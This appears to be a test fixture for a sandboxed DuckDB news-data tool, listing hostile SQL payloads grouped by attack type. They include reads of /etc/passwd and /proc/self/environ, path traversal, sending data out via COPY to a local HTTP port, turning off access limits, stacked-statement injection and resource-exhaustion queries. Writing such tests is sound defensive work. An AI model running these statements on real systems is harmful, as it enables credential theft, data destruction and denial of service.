-- Statements of somebody who means ill, one a line that begins without "--"; {lake}, {outside} and {port} are filled in.
-- {outside} is a directory with secret.txt, secret.csv, secret.json, secret.parquet, secret.duckdb, secret.xml and link (to /etc);
-- \n in a statement is a line break, \0 a nul, {repeat:N:x} N times x.

-- writing
COPY (SELECT 1) TO '{outside}/made.csv'
COPY (SELECT 1) TO '{lake}/hot/made.parquet'
COPY (SELECT 1) TO '{lake}/deleted.parquet' (FORMAT parquet)
COPY (SELECT 1) TO '{lake}/news.duckdb' (FORMAT csv)
COPY (SELECT 1 AS a) TO '{lake}/cold' (FORMAT parquet, PARTITION_BY (a), OVERWRITE)
COPY (SELECT 1) TO '/dev/shm/made.csv'
COPY (SELECT 1) TO '/dev/stdout'
COPY (SELECT 1) TO '/proc/self/fd/1'
EXPLAIN ANALYZE COPY (SELECT 1) TO '{lake}/hot/made.parquet'
EXPLAIN ANALYZE COPY (SELECT 1) TO '{outside}/made.csv'
WITH x AS (COPY (SELECT 1) TO '{lake}/hot/made.parquet') FROM x
WITH x AS (COPY (SELECT 1) TO '{lake}/deleted.parquet') FROM x
WITH x AS MATERIALIZED (COPY (SELECT 1) TO '{outside}/made.csv') SELECT 1
EXPORT DATABASE '{outside}/made'
EXPLAIN ANALYZE EXPORT DATABASE '{outside}/made'
IMPORT DATABASE '{outside}'
CREATE TABLE news.made AS SELECT 1
CREATE OR REPLACE VIEW articles AS SELECT 1
CREATE TABLE memory.made AS SELECT 1
WITH x AS (INSERT INTO news.lake.exchanges SELECT * FROM news.lake.exchanges RETURNING *) FROM x
WITH x AS (DELETE FROM news.lake.closures RETURNING *) FROM x
EXPLAIN ANALYZE DELETE FROM news.lake.closures
EXPLAIN ANALYZE DROP VIEW articles
EXPLAIN ANALYZE INSERT INTO news.lake.closures SELECT 'XETR', DATE '2026-01-01', NULL
DROP VIEW articles
DROP SCHEMA lake CASCADE
INSERT INTO lake.exchanges SELECT * FROM lake.exchanges
UPDATE lake.exchanges SET zone = 'UTC'
DELETE FROM lake.closures
TRUNCATE lake.closures
ALTER VIEW articles RENAME TO made
COMMENT ON VIEW articles IS 'made'
VACUUM
CHECKPOINT news
FORCE CHECKPOINT
BEGIN TRANSACTION

-- reading what is not the lake's
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_text('{outside}/secret.txt')
SELECT * FROM read_blob('{outside}/secret.txt')
SELECT * FROM read_csv('{outside}/secret.csv')
SELECT * FROM read_json('{outside}/secret.json')
SELECT * FROM read_json_objects('{outside}/secret.json')
SELECT * FROM read_ndjson('{outside}/secret.json')
SELECT * FROM read_parquet('{outside}/secret.parquet')
SELECT * FROM parquet_metadata('{outside}/secret.parquet')
SELECT * FROM parquet_schema('{outside}/secret.parquet')
SELECT * FROM parquet_kv_metadata('{outside}/secret.parquet')
SELECT * FROM parquet_file_metadata('{outside}/secret.parquet')
SELECT * FROM sniff_csv('{outside}/secret.csv')
SELECT * FROM '{outside}/secret.csv'
SELECT * FROM '{outside}/secret.parquet'
SELECT * FROM '{lake}/hot/../../outside/secret.csv'
SELECT * FROM read_text('{lake}/hot/../../outside/secret.txt')
SELECT * FROM read_text('{lake}/hot/link/secret.txt')
SELECT * FROM read_text('file://{outside}/secret.txt')
SELECT * FROM read_text('{outside}/link/passwd')
SELECT * FROM read_text(['{lake}/deleted.parquet', '{outside}/secret.txt'])
SELECT * FROM glob('{outside}/*')
SELECT * FROM glob('/etc/*')
SELECT * FROM glob('/home/**')
SELECT * FROM glob('/proc/*/environ')
SELECT * FROM read_text('/proc/self/environ')
SELECT * FROM read_blob('/proc/self/environ')
SELECT * FROM read_text('/proc/1/environ')
SELECT * FROM read_text('/proc/self/cmdline')
SELECT * FROM read_blob('/proc/self/mem')
SELECT * FROM read_text('/proc/self/maps')
SELECT * FROM read_text('/proc/self/cgroup')
SELECT * FROM read_text('/sys/fs/cgroup/cgroup.procs')
SELECT * FROM read_text('/dev/stdin')
SELECT * FROM read_csv('/dev/fd/0')
SELECT * FROM read_text('{lake}/format.json')
SELECT * FROM read_text('{lake}/locks/read.json')
SELECT * FROM read_text('{lake}/watermark.json')
SELECT * FROM read_xml('{outside}/secret.xml')
SELECT * FROM read_duckdb('{outside}/secret.duckdb')
ATTACH '{outside}/secret.duckdb' AS other
ATTACH '{outside}/secret.duckdb' AS other (READ_ONLY)
ATTACH '{lake}/news.duckdb' AS other
EXPLAIN ANALYZE ATTACH '{outside}/secret.duckdb' AS other
SELECT getenv('NEWSMILL_CANARY')
SELECT * FROM query('SELECT * FROM read_text(''{outside}/secret.txt'')')
SELECT * FROM query_table('{outside}/secret.csv')
SELECT * FROM query('COPY (SELECT 1) TO ''{outside}/made.csv''')
SELECT * FROM duckdb_secrets()
SELECT * FROM which_secret('s3://bucket', 's3')
SELECT * FROM asked
SELECT * FROM sys
SELECT * FROM os
SELECT * FROM canary
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM arrow_scan(140000000000000, 140000000000000, 140000000000000)
SELECT * FROM pandas_scan(4096)
SELECT * FROM python_map_function(1)
SELECT * FROM duckdb_logs
SELECT current_setting('secret_directory'), current_setting('home_directory')

-- the net, and code
SELECT * FROM read_csv('http://127.0.0.1:{port}/canary.csv')
SELECT * FROM 'http://127.0.0.1:{port}/canary.parquet'
SELECT * FROM read_text('https://127.0.0.1:{port}/canary')
SELECT * FROM read_parquet('s3://127.0.0.1:{port}/canary')
SELECT * FROM read_parquet('hf://datasets/a/b/c.parquet')
COPY (FROM articles) TO 'http://127.0.0.1:{port}/take'
ATTACH 'http://127.0.0.1:{port}/canary.duckdb' AS other
ATTACH 'postgres:host=127.0.0.1 port={port}' AS other
INSTALL httpfs
INSTALL httpfs FROM 'http://127.0.0.1:{port}/'
LOAD httpfs
LOAD '{outside}/secret.duckdb'
EXPLAIN ANALYZE INSTALL httpfs
SELECT * FROM sqlite_scan('{outside}/secret.duckdb', 'x')
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '127.0.0.1:{port}')

-- taking the limits off
SET enable_external_access = true
SET lock_configuration = false
SET allowed_directories = ['/']
SET memory_limit = '100GB'
SET threads = 1000
SET max_execution_time = 0
SET python_enable_replacements = true
RESET max_execution_time
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = '{outside}/made.json'
SET log_query_path = '{outside}/made.sql'
SET temp_directory = '{outside}'
SET TimeZone = '../../../etc/passwd'
EXPLAIN ANALYZE SET threads = 1000
WITH x AS (SET threads = 1000) SELECT 1
SELECT set_config('threads', '1000')
CALL enable_logging(storage := 'file', storage_config := {'path': '{outside}'})
CALL force_checkpoint('news')
CREATE MACRO f(x) AS f(x)
SELECT 1; COPY (SELECT 1) TO '{outside}/made.csv'
SELECT 1;;DROP VIEW articles
PREPARE p AS COPY (SELECT 1) TO '{outside}/made.csv'
EXECUTE p
USE memory
DETACH news

-- taking time and memory
SELECT count(*) FROM range(1000000000000)
SELECT sum(a.range * b.range) FROM range(100000000) a, range(100000000) b
SELECT count(*) FROM lake.mentions a, lake.mentions b, lake.mentions c, lake.mentions d, lake.mentions e, lake.mentions f, lake.mentions g
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
WITH RECURSIVE r AS (SELECT 'x' AS s UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r
SELECT repeat('x', 2000000000)
SELECT length(repeat('x', 4000000000)) FROM range(10)
SELECT md5(repeat('x', 500000000)) FROM range(100)
SELECT list_aggregate(range(1000000000), 'sum')
SELECT array_agg(x) FROM (SELECT repeat(range::VARCHAR, 10000) AS x FROM range(10000000))
SELECT string_agg(repeat('x', 100000)) FROM range(1000000)
SELECT regexp_matches(repeat('a', 100000) || 'b', '(a+)+$') FROM range(100000)
SELECT * FROM range(100000000) ORDER BY random()
SELECT DISTINCT md5(range::VARCHAR) FROM range(1000000000)
SELECT factorial(33), gamma(1e300), pow(10, 308) * 10 FROM range(10000000000)
SELECT generate_series(1, 10000000000)
SELECT levenshtein(repeat('a', 100000), repeat('b', 100000)) FROM range(1000)
SELECT list_sort(list_transform(range(100000000), lambda x: random()))
SELECT list_reduce(range(100000000), lambda x, y: x + y)
SELECT lpad('x', 2147483647, 'y')
SELECT printf('%2000000000d', 1)
SELECT unnest(range(1000000000)), unnest(range(1000000000))
SELECT bitstring('1', 4000000000)
SELECT CAST(repeat('[', 100000) AS JSON)
SELECT json_extract(repeat('{"a":', 100000), '$.a')
SELECT * FROM range(2000000)
FROM lake.articles CROSS JOIN range(100000000)
SELECT {repeat:20000:(}1{repeat:20000:)}
SELECT {repeat:50000:-(}1
SELECT {repeat:20000:NOT }true
SELECT 1{repeat:200000: + 1}
SELECT * FROM {repeat:3000:(SELECT * FROM }range(1){repeat:3000:)}
SELECT {repeat:300000:'a', }1
SELECT CASE {repeat:5000:WHEN 1 = 2 THEN CASE WHEN true THEN } 1
EXPLAIN ANALYZE SELECT count(*) FROM range(1000000000000)
SUMMARIZE SELECT * FROM range(100000000000)
DESCRIBE SELECT repeat('x', 2000000000)
PIVOT (SELECT range AS a, range % 100000 AS b FROM range(10000000)) ON b USING sum(a)
SELECT sleep(60)
SELECT sleep_ms(60000)

-- what is no SQL at all
SELECT '\0'
\0
SELECT 1 -- \0 COPY (SELECT 1) TO '{outside}/made.csv'
SELECT * FROM "\0"
🙂
SELECT 'unterminated
/* unterminated
SELECT $$ unterminated
%s%s%s%n
'; DROP VIEW articles; --
